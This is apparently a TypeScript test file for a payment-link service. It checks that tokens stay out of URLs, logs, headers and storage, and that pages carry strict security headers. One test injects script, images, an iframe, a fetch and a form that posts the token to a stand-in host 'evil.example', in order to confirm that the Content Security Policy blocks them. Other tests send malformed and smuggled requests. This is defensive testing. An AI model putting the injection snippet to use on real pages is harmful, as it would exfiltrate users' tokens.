// The token of a link travels only in bodies of posted forms, so that address bar, history, proxies and logs never
// hold it. Nothing keeps a page. A page runs and loads only what the service serves. Opening a link without posting a
// form, as mail scanners do, changes nothing.
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { Writable } from 'node:stream';
import { after, before, test } from 'node:test';
import { LIMITS } from '@fairway/wire';
import pino from 'pino';
import {
  type CollectTest,
  enterCode,
  GERMAN_ACCOUNT,
  openLink,
  press,
  startCollectTest,
  submit,
} from '../collectHarness.ts';
import { type LoggingProxy, type Passed, startLoggingProxy } from '../loggingProxy.ts';

let collect: CollectTest;
let proxy: LoggingProxy;
const logged: string[] = [];
before(async () => {
  const stream = new Writable({
    write(chunk, _encoding, done) {
      logged.push(String(chunk));
      done();
    },
  });
  collect = await startCollectTest(pino({ level: 'trace' }, stream));
  proxy = await startLoggingProxy(collect.payments.service.url);
});
after(async () => {
  await proxy?.close();
  await collect?.close();
});

const collectRequests = () => proxy.passed.filter(({ line }) => line.includes('/collect'));

test('the token is only in bodies of forms and of uncached pages, and in no log', async () => {
  const payment = await collect.mailed();
  const { texts, token } = payment;
  const codes: string[] = [];
  await collect.withPage({ proxy: { server: proxy.url } }, async (page) => {
    await submit(page, payment, GERMAN_ACCOUNT);
    codes.push(await collect.codeOf(payment));
    await enterCode(page, payment, codes[0] === '000000' ? '000001' : '000000');
    await page.goBack();
    await page.reload();
    await page.locator('h1', { hasText: texts.code.title }).waitFor();
    assert.equal(page.url().includes(token), false);
    const kept = await page.evaluate<{ page: string }>('history.state');
    assert.ok(!JSON.stringify(kept).includes(token));
    assert.ok(!Buffer.from(kept.page, 'base64url').includes(token));
    await collect.payments.advance('PT31S');
    await press(page, texts.code.resend);
    codes.push(await collect.codeOf(payment, 3));
    await enterCode(page, payment, codes[1] ?? '');
    await press(page, texts.receipt.refresh);
    assert.equal(await page.locator('h1').textContent(), texts.receipt.status.PENDING.title);
    assert.deepEqual(await page.context().cookies(), []);
    assert.equal(await page.evaluate('localStorage.length + sessionStorage.length'), 0);
  });

  const seen = collectRequests();
  const posted = seen.filter(({ body }) => body.includes(token));
  assert.ok(posted.length >= 8, `${posted.length} forms went through the proxy`);
  assert.deepEqual([...new Set(posted.map(({ line }) => line.split(' ')[0]))], ['POST']);
  for (const { line, headers, answerHeaders, answer } of seen) {
    assert.ok(!`${line} ${JSON.stringify(headers)}`.includes(token), `${line}: the request's head`);
    assert.equal(headers.referer, undefined, line);
    assert.ok(!JSON.stringify(answerHeaders).includes(token), `${line}: the answer's head`);
    if (answer.includes(token)) assert.equal(answerHeaders['cache-control'], 'no-store', line);
    assert.equal(answerHeaders['set-cookie'], undefined, line);
  }
  const log = logged.join('');
  assert.match(log, /"level":(10|20|30)/, 'the log is on');
  for (const secret of [token, payment.email, '370400440532', 'Jo Citizen'])
    assert.ok(!log.includes(secret), `the log holds ${secret}`);
  for (const code of codes) assert.doesNotMatch(log, new RegExp(`"${code}"`), 'the log holds a code');
});

test('pages send requests to the service alone', () => {
  const elsewhere = proxy.passed.filter(({ status }) => status === 502).map(({ line }) => line);
  assert.deepEqual(elsewhere, []);
});

test('every page forbids caching, framing, type guessing and referrers', () => {
  const pages = collectRequests().filter(({ line }) => !line.endsWith('/collect.js'));
  assert.ok(pages.length > 10);
  for (const { line, answerHeaders } of pages) assertGuarded(line, answerHeaders);
  const [script] = collectRequests().filter(({ line }) => line.endsWith('/collect.js'));
  assert.equal(script?.answerHeaders['x-content-type-options'], 'nosniff');
});

function assertGuarded(what: string, headers: Passed['answerHeaders']): void {
  assert.equal(headers['cache-control'], 'no-store', what);
  assert.equal(headers['referrer-policy'], 'no-referrer', what);
  assert.equal(headers['x-content-type-options'], 'nosniff', what);
  assert.equal(headers['x-frame-options'], 'DENY', what);
  assert.equal(headers['cross-origin-opener-policy'], 'same-origin');
  const policy = String(headers['content-security-policy']).split('; ');
  for (const rule of [
    "default-src 'none'",
    "frame-ancestors 'none'",
    "form-action 'self'",
    "base-uri 'none'",
  ])
    assert.ok(policy.includes(rule), `${what}: ${policy.join('; ')}`);
  assert.ok(!policy.join().includes('unsafe'), what);
}

test('pages of refusals have the same headers', async () => {
  const { url } = collect.payments.service;
  const posts = [
    ['open', 'token=nothing!'],
    ['open', `token=${'A'.repeat(43)}`],
    ['confirm', ''],
  ] as const;
  for (const [step, body] of posts) {
    const response = await fetch(`${url}/collect/${step}`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body,
    });
    assert.ok([400, 404].includes(response.status), `${step}: ${response.status}`);
    assertGuarded(`${step} ${body}`, Object.fromEntries(response.headers));
  }
});

test('an injected script or request in a page does nothing', async () => {
  const payment = await collect.mailed();
  const complaints: string[] = [];
  const smuggled = collect.withPage({ proxy: { server: proxy.url } }, async (page) => {
    page.on('console', (message) => complaints.push(message.text()));
    await openLink(page, payment);
    proxy.passed.length = 0;
    await page.evaluate(`
      document.body.insertAdjacentHTML('beforeend', '<img src="http://evil.example/i.png" onerror="globalThis.ran = 1">'
        + '<iframe src="http://evil.example/f"></iframe><style>h1{display:none}</style>'
        + '<form id="evil" action="http://evil.example/take" method="post"><input name="token"></form>');
      for (const [name, text] of [['src', 'http://evil.example/s.js'], ['textContent', 'globalThis.ran = 1']]) {
        const script = document.createElement('script');
        script[name] = text;
        document.body.append(script);
      }
      fetch('http://evil.example/c').catch(() => {});
      document.getElementById('evil').submit();
      0`);
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate('globalThis.ran'), undefined);
    assert.ok(await page.locator('h1').isVisible());
    assert.match(page.url(), /\/collect\/open$/);
  });
  await assert.rejects(smuggled, /Content Security Policy/, 'the browser reports what it blocked');
  assert.deepEqual(
    proxy.passed.map(({ line }) => line),
    [],
  );
  for (const rule of ['script-src', 'img-src', 'style-src', 'connect-src', 'form-action', 'default-src'])
    assert.ok(
      complaints.some((text) => text.includes(rule)),
      `${rule} held something back: ${complaints.join('\n')}`,
    );
});

test('a hundred requests for a link without a form change and show nothing', async () => {
  const payment = await collect.mailed();
  const { url } = collect.payments.service;
  await collect.payments.until(
    await collect.payments.get(payment.planId),
    'the e-mail was accepted',
    ({ steps }) => steps.at(-1)?.collect?.link?.mail === 'ACCEPTED',
  );
  const before = await collect.payments.textOf(payment.planId);
  const paths = [
    '/collect',
    `/collect#${payment.token}`,
    `/collect/${payment.token}`,
    `/collect/open?token=${payment.token}`,
    `/collect?token=${payment.token}`,
    '/collect/submit',
    '/collect/confirm',
  ];
  const looks = ['GET', 'HEAD'].flatMap((method) =>
    Array.from({ length: 50 }, (_, count) => ({ method, path: paths[count % paths.length] ?? '' })),
  );
  await Promise.all(
    looks.map(async ({ method, path }) => {
      const response = await fetch(`${url}${path}`, { method });
      assert.ok([200, 404].includes(response.status), `${method} ${path}: ${response.status}`);
      assertUnseen(payment.token, `${method} ${path}`, response.headers, await response.text());
    }),
  );
  assert.equal(await collect.payments.textOf(payment.planId), before);
  assert.ok(!logged.join('').includes(payment.token), 'the log');
});

function assertUnseen(token: string, what: string, headers: Headers, text: string): void {
  assert.ok(!JSON.stringify([...headers]).includes(token), `${what}: the answer's head`);
  assert.ok(!text.includes(token), `${what}: ${text.slice(0, 300)}`);
}

const FORM = 'application/x-www-form-urlencoded';

/** A token in a wrong place of a request, with the expected status. */
type Misplaced = readonly [status: number, path: string, body?: string, type?: string, method?: string];

test('no problem, no page of a refusal and no log repeats a token, wherever it was sent', async () => {
  const payment = await collect.mailed();
  const { token } = payment;
  const { url } = collect.payments.service;
  const form = `token=${token}`;
  const misplaced: readonly Misplaced[] = [
    [415, '/collect/open', JSON.stringify({ token }), 'application/json'],
    [415, '/collect/open', form, 'text/plain'],
    [415, `/collect/confirm?${form}`, `--${token}--\r\n`, `multipart/form-data; boundary=${token}`],
    [404, `/collect/${token}`],
    [404, `/collect/${token}`, form],
    [404, `/collect/open/${token}`],
    // Mail programs and chats that do not know # write links in this way.
    [404, `/collect%23${token}`],
    [404, `/collect/%23${token}?${form}`],
    [404, `/${'collect/'.repeat(9)}${token}`],
    [400, `/collect/%zz${token}`],
    [401, `/v1/collect/${token}`],
    [405, `/collect/open?${form}`, form, FORM, 'PUT'],
    [405, `/collect?${form}`, form],
    [413, '/collect/open', `${form}&more=${'x'.repeat(LIMITS.bodyBytes)}`],
    [400, '/collect/open', `${form}%`],
    [400, '/collect/open', `%zz=${token}`],
    [400, '/collect/open', `"${token}"`],
    [404, '/collect/details', `${form}%&type=bank`],
    [404, '/collect/confirm', `token=%00${token}&code=${token}`],
  ];
  for (const [status, path, body, type = FORM, method = body === undefined ? 'GET' : 'POST'] of misplaced) {
    const headers = { 'content-type': type };
    const response = await fetch(`${url}${path}`, { method, headers, body: body ?? null });
    const what = `${method} ${path.replace(token, 'TOKEN')} ${type}`;
    const text = await response.text();
    assert.equal(response.status, status, `${what}: ${text.slice(0, 300)}`);
    assertUnseen(token, what, response.headers, text);
    assert.equal(response.headers.get('cache-control'), 'no-store', what);
  }
  for (const bytes of [`GET /collect/${token} HTTP/9.9\r\n\r\n`, `${token}\r\n\r\n`]) {
    const answer = await answerToBytes(url, bytes);
    assert.match(answer, /malformed-request/);
    assert.ok(!answer.includes(token), answer);
  }
  assert.notEqual((await collect.stateOf(payment)).link?.state, 'OPENED');
  assert.ok(!logged.join('').includes(token), 'the log');
});

/** The service's answer to bytes that need not be HTTP. */
async function answerToBytes(url: string, bytes: string): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.write(bytes);
  let answer = '';
  for await (const chunk of socket) answer += String(chunk);
  return answer;
}
